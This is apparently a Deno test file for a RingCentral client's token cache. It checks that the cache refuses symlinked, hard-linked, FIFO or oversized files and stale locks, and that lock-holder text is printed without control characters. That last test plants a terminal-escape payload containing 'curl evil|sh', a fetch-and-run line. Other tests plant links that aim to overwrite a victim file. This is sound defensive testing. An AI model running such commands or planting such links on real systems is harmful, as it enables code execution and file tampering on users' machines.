/**
 * Trust, second round: the token cache never writes through a link, never
 * reads without a bound, and never waits on its lock in silence.
 */
import { deepEqual, equal, match, ok } from "node:assert/strict";
import { ConfigError, FileTokenStore, MemoryTokenStore, RingCentral } from "../mod.ts";
import { PUBLIC_CLIENT_ID } from "../lib/emulator/seed.ts";
import { childEnv, ROOT, serveEmulator, tempDir } from "./_helpers.ts";

const ME = "/restapi/v1.0/account/~/extension/~";
const tokens = (access: string) => ({
  tokens: { access_token: access, token_type: "bearer", expires_in: 3600 },
  timestamp: Date.now(),
});

Deno.test("trust 1: a .tmp planted as a symlink is never written through", async () => {
  await using dir = await tempDir();
  const path = `${dir.path}/tokens_sandbox.json`;
  const target = `${dir.path}/victim.txt`;
  await Deno.writeTextFile(target, "precious\n", { mode: 0o644 });
  await Deno.symlink(target, `${path}.tmp`);
  const warnings: string[] = [];
  const store = new FileTokenStore(path, { onWarning: (m) => warnings.push(m) });
  await store.save(tokens("live-token-value"));
  equal(await Deno.readTextFile(target), "precious\n", "the link's target is untouched");
  equal((await Deno.stat(target)).mode! & 0o777, 0o644, "and keeps its mode");
  equal((await store.load())?.tokens.access_token, "live-token-value", "the cache itself was written");
  ok(!(await Deno.lstat(path)).isSymlink);
});

Deno.test("trust 1: a cache or lock path that is a symlink, a FIFO or a folder is refused with a warning; tokens stay in memory", async (t) => {
  await using s = serveEmulator({ rateLimits: false });
  const env = { ...s.env, RC_USERNAME: "", RC_PASSWORD: "" };
  const cases: [string, string, (path: string, dir: string) => Promise<void>, RegExp][] = [
    ["the cache is a symlink", "tokens_sandbox.json", async (p, d) => {
      await Deno.writeTextFile(`${d}/elsewhere.json`, "{}");
      await Deno.symlink(`${d}/elsewhere.json`, p);
    }, /is a symbolic link/],
    ["the cache is a FIFO", "tokens_sandbox.json", async (p) => {
      await new Deno.Command("mkfifo", { args: [p] }).output();
    }, /is not a regular file \(a FIFO/],
    ["the lock is a symlink", "tokens_sandbox.json.lock", async (p, d) => {
      await Deno.writeTextFile(`${d}/other.lock`, "");
      await Deno.symlink(`${d}/other.lock`, p);
    }, /is a symbolic link/],
  ];
  for (const [name, file, plant, expected] of cases) {
    await t.step(name, async () => {
      await using dir = await tempDir();
      const path = `${dir.path}/${file}`;
      await plant(path, dir.path);
      const notices: string[] = [];
      const rc = await RingCentral.fromEnv({ dir: dir.path, env, onNotice: (m) => notices.push(m) });
      equal((await rc.get(ME)).status, 200);
      equal((await rc.get(ME)).status, 200, "the tokens were kept in memory");
      ok(notices.some((n) => n.includes(path) && expected.test(n)), notices.join("\n"));
      if (file.endsWith(".json") && name.includes("symlink")) {
        equal(await Deno.readTextFile(`${dir.path}/elsewhere.json`), "{}", "nothing was written through the link");
      }
    });
  }
});

Deno.test("trust 2: reads are bounded: a huge cache is corrupt, /dev/zero and a FIFO never hang or fill memory", async (t) => {
  await t.step("a 300 MB cache file is read no further than the bound", async () => {
    await using dir = await tempDir();
    const path = `${dir.path}/tokens_sandbox.json`;
    const file = await Deno.open(path, { create: true, write: true, mode: 0o600 });
    await file.truncate(300 * 1024 * 1024); // sparse: no disk used
    file.close();
    const warnings: string[] = [];
    const store = new FileTokenStore(path, { onWarning: (m) => warnings.push(m) });
    equal(await store.load(), undefined);
    match(warnings.join("\n"), /larger than 65536 bytes \(the token cache limit\)/);
  });
  await t.step("a link to /dev/zero is refused", async () => {
    await using dir = await tempDir();
    const path = `${dir.path}/tokens_sandbox.json`;
    await Deno.symlink("/dev/zero", path);
    const warnings: string[] = [];
    equal(await new FileTokenStore(path, { onWarning: (m) => warnings.push(m) }).load(), undefined);
    match(warnings.join("\n"), /is a symbolic link/);
  });
  await t.step("an .env file that is a FIFO or huge is a clear error", async () => {
    await using dir = await tempDir();
    await new Deno.Command("mkfifo", { args: [`${dir.path}/.env`] }).output();
    const fifo = await RingCentral.fromEnv({ dir: dir.path, env: {} }).catch((e) => e);
    ok(fifo instanceof ConfigError, String(fifo));
    match(fifo.message, /\.env is not a regular file/);
    await Deno.remove(`${dir.path}/.env`);
    await Deno.writeTextFile(`${dir.path}/.env`, `ENVIRONMENT=sandbox\n${"# padding\n".repeat(20_000)}`);
    const huge = await RingCentral.fromEnv({ dir: dir.path, env: {} }).catch((e) => e);
    ok(huge instanceof ConfigError, String(huge));
    match(huge.message, /\.env is larger than 65536 bytes \(the settings file limit\)/);
  });
});

Deno.test("trust 3: a lock held by a stopped process: the waiter says who holds it, then gives up with how to clear it", async () => {
  await using dir = await tempDir();
  const path = `${dir.path}/tokens_sandbox.json`;
  // Another process takes the lock the way the client does, then is stopped (as by Ctrl-Z).
  const holder = new Deno.Command(Deno.execPath(), {
    args: [
      "eval",
      `import { FileTokenStore } from "${ROOT}/mod.ts";` +
      `await new FileTokenStore(${
        JSON.stringify(path)
      }).lock(async () => { console.log("held"); await new Promise(() => setInterval(() => {}, 1000)); });`,
    ],
    stdout: "piped",
    env: childEnv(),
    clearEnv: true,
  }).spawn();
  const reader = holder.stdout.pipeThrough(new TextDecoderStream()).getReader();
  equal((await reader.read()).value?.trim(), "held");
  holder.kill("SIGSTOP");
  try {
    const warnings: string[] = [];
    const store = new FileTokenStore(path, {
      onWarning: (m) => warnings.push(m),
      lockNoticeMs: 50,
      lockTimeoutMs: 300,
    });
    const e = await store.lock(() => Promise.resolve("never")).catch((e) => e);
    ok(e instanceof ConfigError, String(e));
    match(e.message, new RegExp(`The token cache ${path.replace(/[.]/g, "\\.")} is locked by process ${holder.pid}`));
    match(e.message, /gave up after 0\.3 s \(the lock wait limit\)/);
    match(e.message, new RegExp(`kill ${holder.pid}|delete .*\\.lock`));
    match(
      warnings.join("\n"),
      new RegExp(
        `Waiting for process ${holder.pid} \\(refreshing the token since [\\d:]+ UTC\\), which holds .*\\.lock`,
      ),
    );
  } finally {
    holder.kill("SIGKILL");
    await holder.status;
    reader.releaseLock();
    await holder.stdout.cancel().catch(() => undefined);
  }
});

Deno.test("trust 3: a browser login waiting for its user does not hold the cache lock", async () => {
  await using s = serveEmulator({ rateLimits: false });
  await using dir = await tempDir();
  const path = `${dir.path}/tokens_sandbox.json`;
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  const port = (listener.addr as Deno.NetAddr).port;
  listener.close();
  const stop = new AbortController();
  let urlShown = Promise.withResolvers<void>();
  const browser = new RingCentral({
    server: s.url,
    clientId: PUBLIC_CLIENT_ID,
    redirectUri: `http://127.0.0.1:${port}/oauth2callback`,
    tokenStore: new FileTokenStore(path),
    browser: {
      open: false,
      paste: false,
      print: (l) => l.includes("/authorize?") && urlShown.resolve(),
      signal: stop.signal,
    },
  });
  const waiting = browser.authenticate().catch((e) => e); // nobody approves: it waits for a person
  await urlShown.promise;
  const script = new RingCentral({ ...s.credentials, tokenStore: new FileTokenStore(path) });
  const raced = await Promise.race([
    script.get(ME).then((r) => r.status),
    new Promise((r) => setTimeout(() => r("blocked"), 5_000)),
  ]);
  equal(raced, 200, "another script sharing the cache went on while the browser login waited");
  stop.abort(new Error("done"));
  equal((await waiting).message, "done");
  urlShown = Promise.withResolvers<void>();
  deepEqual(Object.keys((await new MemoryTokenStore().load()) ?? {}), []);
});

Deno.test("trust 1: a lock path that is a hard link to another file is refused: its target is never truncated", async () => {
  await using dir = await tempDir();
  const path = `${dir.path}/tokens_sandbox.json`;
  const victim = `${dir.path}/victim.txt`;
  await Deno.writeTextFile(victim, "precious\n");
  await Deno.link(victim, `${path}.lock`);
  const warnings: string[] = [];
  const store = new FileTokenStore(path, { onWarning: (m) => warnings.push(m) });
  equal(await store.lock(() => Promise.resolve("ran")), "ran", "the work runs all the same");
  equal(await Deno.readTextFile(victim), "precious\n", "the link's target is untouched");
  match(warnings.join("\n"), new RegExp(`${path.replace(/[.]/g, "\\.")}\\.lock has 2 hard links`));
  match(warnings.join("\n"), /To fix: remove .*\.lock/);
});

Deno.test("trust 7: who holds the lock, as its (plantable) file says, is printed without control characters", async () => {
  await using dir = await tempDir();
  const path = `${dir.path}/tokens_sandbox.json`;
  const evil = "\u001b[2J\u001b[H RUN: curl evil|sh\u009b2J";
  // Another holder (a second open file in this process: OS locks are per open file) that wrote text of its own.
  const held = await Deno.open(`${path}.lock`, { create: true, write: true });
  await held.write(new TextEncoder().encode(JSON.stringify({ pid: 4242, since: `2026-01-01T${evil}`, doing: evil })));
  await held.lock(true);
  try {
    const warnings: string[] = [];
    const store = new FileTokenStore(path, { onWarning: (m) => warnings.push(m), lockNoticeMs: 10, lockTimeoutMs: 60 });
    const e = await store.lock(() => Promise.resolve("never")).catch((e) => e);
    ok(e instanceof ConfigError, String(e));
    const printed = [...warnings, e.message];
    match(printed.join("\n"), /process 4242 \(\[2J\[H RUN: curl evil\|sh2J since/);
    for (const text of printed) {
      // deno-lint-ignore no-control-regex
      equal(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(text), false, JSON.stringify(text));
    }
  } finally {
    held.close();
  }
});
